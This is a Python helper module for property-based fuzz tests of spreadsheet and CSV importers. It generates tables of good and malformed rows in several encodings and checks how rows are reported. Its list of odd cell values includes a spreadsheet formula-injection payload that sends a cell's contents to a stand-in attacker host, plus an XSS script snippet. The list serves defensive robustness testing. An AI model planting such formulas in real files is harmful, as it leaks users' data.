"""Shared by the property-based tests of the importers (``<app>/tests/test_import_fuzz.py``).

Each of those tests generates a table mixing rows built only from legal values with
hostile rows (one cell made wrong, cells past the last column, a copy of an earlier row),
writes it as CSV (several encodings, delimiters and line ends) or XLSX, imports it through
the service, the upload page or the background job a large upload starts, and checks
that nothing raised (no page answered 500), that every hostile row is reported with its
number and a reason, and that every good row is kept with the values it gave.

The settings are small and deterministic for CI. A longer, random campaign:

    HYPOTHESIS_PROFILE=long .venv/bin/pytest commons -k import_fuzz -p no:cacheprovider \\
        --hypothesis-show-statistics

(``FUZZ_FACTOR`` scales the number of examples of the long campaign, 50 by default.)
"""

from __future__ import annotations

import csv
import datetime
import io
import os
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from typing import Any

from hypothesis import HealthCheck, event, settings
from hypothesis import strategies as st
from hypothesis.control import currently_in_test_context
from openpyxl import Workbook

LONG = os.environ.get("HYPOTHESIS_PROFILE") == "long"
FACTOR = int(os.environ.get("FUZZ_FACTOR", "50"))
_SUPPRESSED = [
    HealthCheck.function_scoped_fixture,  # each example rolls its own writes back
    HealthCheck.too_slow,
    HealthCheck.data_too_large,
    HealthCheck.large_base_example,
]


def fuzz(examples: int) -> settings:
    """Hypothesis settings: ``examples`` derandomised examples for CI, or ``FACTOR``
    times as many random ones with ``HYPOTHESIS_PROFILE=long``."""
    if LONG:
        return settings(
            max_examples=examples * FACTOR,
            derandomize=False,
            deadline=None,
            database=None,
            print_blob=True,
            suppress_health_check=_SUPPRESSED,
        )
    return settings(
        max_examples=examples,
        derandomize=True,
        deadline=None,
        database=None,
        suppress_health_check=_SUPPRESSED,
    )


# --- Cells --------------------------------------------------------------------------------


class Formula(str):
    """A cell an XLSX file holds as a formula (read back empty: no cached value); a CSV
    file holds its text."""


# Text a spreadsheet might hold that is legal in a free-text cell: formula-like cells,
# line breaks, a byte-order mark, bidirectional controls, combining marks, emoji, quotes
# and separators.
ODD_SNIPPETS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+66 2 123 4567",
    "-2",
    "@SUM(A1:A9)",
    "line one\nline two",
    "line one\r\nline two",
    "\ufeffstarts with a BOM",
    "\u202eevil right-to-left\u202c",
    "e\u0301\u0301\u0301 combining",
    "👩🏽‍⚖️ 🇹🇭",
    "quote \" and 'single'",
    "semi; colon, comma\ttab",
    "<script>alert(1)</script>",
    "ทดสอบ ภาษาไทย",
    "မြန်မာ",
    "ប្រទេសកម្ពុជា",
    "٣٤٥ عربي",
    "\u200b\u200d zero width",
    "Ǆ ß ﬁ İ",
)

# Characters every cell can hold: no control characters but tab and line ends (XML,
# hence XLSX, cannot hold the others), no surrogates, no unassigned code points (nor
# U+FFFE, U+FFFF, which XML refuses).
_CHARACTERS = st.characters(exclude_categories=("Cs", "Cn", "Cc"), include_characters="\t\n")


def odd_text(*, max_size: int = 80) -> st.SearchStrategy[str]:
    """Free text that must be kept: generated characters and odd snippets, never blank."""
    return (
        st.lists(
            st.one_of(st.text(_CHARACTERS, min_size=1, max_size=20), st.sampled_from(ODD_SNIPPETS)),
            min_size=1,
            max_size=4,
        )
        .map(" ".join)
        .map(lambda text: text[:max_size])
        .filter(lambda text: text.strip())
    )


def cased(values: Iterable[str]) -> st.SearchStrategy[str]:
    """One of ``values``, as written, in capitals or in lower case."""
    return st.sampled_from(sorted(values)).flatmap(
        lambda value: st.sampled_from([value, value.upper(), value.lower()])
    )


def text_of(value: Any) -> str:
    """The text ``commons.lib.tabular`` reads from a cell holding ``value``."""
    if value is None or isinstance(value, Formula):
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    if isinstance(value, datetime.datetime):
        return value.date().isoformat() if value.time() == datetime.time() else value.isoformat()
    if isinstance(value, datetime.date):
        return value.isoformat()
    return str(value).strip()


def same_text(stored: str, written: str) -> bool:
    """Whether ``stored`` is the text of a cell that held ``written``: stripped, with line
    ends as XML reads them (CR LF as LF)."""
    return _lines(stored) == _lines(written.strip())


def collapsed(text: str) -> str:
    """``text`` with each run of white space as one space, as names are stored."""
    return " ".join(text.split())


def _lines(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


# --- Tables ---------------------------------------------------------------------------------


@dataclass
class Row:
    """A row to write: its cells by column, and what the import must do with it."""

    cells: dict[str, Any]
    bad: str = ""  # text the reason for rejecting it must hold; "" for a good row
    extra: list[Any] = field(default_factory=list)  # cells past the last column
    skipped: bool = False  # a good row the import skips (already there)
    expect: Any = None  # what a good row must become, when its cells do not say it plainly

    @property
    def blank(self) -> bool:
        return not self.extra and not any(text_of(v) for v in self.cells.values())


@dataclass
class Table:
    header: list[str]
    rows: list[Row]

    def numbered(self) -> list[tuple[int, Row]]:
        return list(enumerate(self.rows, start=2))

    @property
    def bad(self) -> dict[int, str]:
        return {n: row.bad for n, row in self.numbered() if row.bad}

    @property
    def good(self) -> list[tuple[int, Row]]:
        return [(n, r) for n, r in self.numbered() if not r.bad and not r.blank and not r.skipped]

    def matrix(self) -> list[list[Any]]:
        """The cells to write, row by row, in the header's order."""
        return [[row.cells.get(name, "") for name in self.header] + row.extra for row in self.rows]


# How a table is written: CSV in several encodings, delimiters and line ends, or XLSX.
LAYOUTS = (
    "csv",
    "csv-bom",
    "csv-utf16",
    "csv-semicolon-crlf",
    "csv-tab",
    "xlsx",
)


def write(table: Table, layout: str) -> bytes:
    """The table's file in ``layout`` (one of ``LAYOUTS``)."""
    if layout == "xlsx":
        return write_xlsx(table.header, table.matrix())
    options = {
        "csv": ("utf-8", ",", "\n"),
        "csv-bom": ("utf-8-sig", ",", "\n"),
        "csv-utf16": ("utf-16", ",", "\r\n"),
        "csv-semicolon-crlf": ("utf-8", ";", "\r\n"),
        "csv-tab": ("utf-8", "\t", "\n"),
    }
    encoding, delimiter, newline = options[layout]
    return write_csv(
        table.header, table.matrix(), encoding=encoding, delimiter=delimiter, newline=newline
    )


def write_csv(
    header: list[str],
    rows: list[list[Any]],
    *,
    encoding: str = "utf-8",
    delimiter: str = ",",
    newline: str = "\n",
    errors: str = "strict",
) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=newline)
    # csv quotes a cell holding a line end of ``newline`` only; a lone CR must be quoted
    # too, as spreadsheets do (unquoted, it ends the line for a reader).
    quoted = csv.writer(buffer, delimiter=delimiter, lineterminator=newline, quoting=csv.QUOTE_ALL)
    writer.writerow(header)
    for row in rows:
        cells = [_csv_cell(value) for value in row]
        (quoted if any("\r" in cell for cell in cells) else writer).writerow(cells)
    return buffer.getvalue().encode(encoding, errors)


def _csv_cell(value: Any) -> str:
    return value if isinstance(value, str) else text_of(value)  # a Formula as its text


def write_xlsx(header: list[str], rows: list[list[Any]]) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(header)
    for number, row in enumerate(rows, start=2):
        for column, value in enumerate(row, start=1):
            if value is None or value == "":
                continue
            cell = sheet.cell(row=number, column=column, value=value)
            if isinstance(value, str) and value.startswith("="):
                # Text is text: only a Formula is written as one.
                cell.data_type = "f" if isinstance(value, Formula) else "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# --- Checks ----------------------------------------------------------------------------------


def assert_reported(table: Table, rejected: Iterable[tuple[int, str]]) -> None:
    """Every hostile row, and only those, is reported with its number and a reason that
    holds what its ``bad`` says."""
    reasons = {int(number): reason for number, reason in rejected}
    if currently_in_test_context():  # for --hypothesis-show-statistics
        event(f"good rows: {min(len(table.good), 4)}{'+' * (len(table.good) >= 4)}")
        event(f"hostile rows: {min(len(table.bad), 4)}{'+' * (len(table.bad) >= 4)}")
    missed = {n: table.bad[n] for n in set(table.bad) - set(reasons)}
    wrongly = {n: reasons[n][:200] for n in set(reasons) - set(table.bad)}
    assert not missed and not wrongly, f"not reported: {missed}; rejected: {wrongly}"
    for number, expected in table.bad.items():
        assert reasons[number].strip()
        assert expected.casefold() in reasons[number].casefold(), (number, reasons[number][:200])


def hostile_rows(
    draw: Callable,
    *,
    good: Callable[[int], Row],
    corruptions: dict[str, st.SearchStrategy],
    columns: list[str],
    count: int,
    extra_reason: str = "cells",
) -> list[Row]:
    """``count`` rows, each good or hostile: ``good(index)`` draws a good row; a hostile
    one is a good row with one of ``columns`` given a value of ``corruptions`` (which
    draws ``(value, reason)``), or with cells past the last column (``extra_reason``
    then), or blank."""
    rows: list[Row] = []
    for index in range(count):
        row = good(index)
        kind = draw(st.sampled_from(["good", "good", "corrupt", "extra", "blank"]))
        usable = [c for c in columns if c in corruptions]
        if kind == "corrupt" and usable:
            column = draw(st.sampled_from(usable))
            value, reason = draw(corruptions[column])
            row.cells[column] = value
            row.bad = reason or column
        elif kind == "extra":
            row.extra = draw(
                st.lists(st.sampled_from(["x", "1", "TH", "=1+1"]), min_size=1, max_size=3)
            )
            row.bad = extra_reason
        elif kind == "blank":
            row.cells = dict.fromkeys(row.cells, "")
        rows.append(row)
    return rows


def reported_on_page(answer) -> Any:
    """The report an import page rendered (its context's ``report``), once the page is
    known to have answered 200 and to show every rejected row's number."""
    assert answer.status_code == 200
    report = answer.context["report"]
    page = answer.content.decode()
    rejected = report["rejected"] if isinstance(report, dict) else report.rejected
    for number, _reason in rejected:
        assert f"<td>{number}</td>" in page
    return report


def reported_in_background(client, post: Callable[[], Any], *, capture) -> dict:
    """The report of an upload a page imports in the background: ``post()`` sends it
    (the page must answer with a redirect to the job's progress), the job runs (tasks run
    at once under test; ``capture`` is pytest-django's
    ``django_capture_on_commit_callbacks``), and its report page must show every
    rejected row's number. Returns the report kept as the job's result."""
    from commons.core.models import Progress

    with capture(execute=True):
        answer = post()
    assert answer.status_code == 302
    progress = Progress.objects.latest("pk")
    assert progress.status == Progress.Status.DONE, progress.message
    page = client.get(progress.result_url)
    assert page.status_code == 200
    for number, _reason in progress.result["rejected"]:
        assert f"<td>{number}</td>" in page.content.decode()
    return progress.result
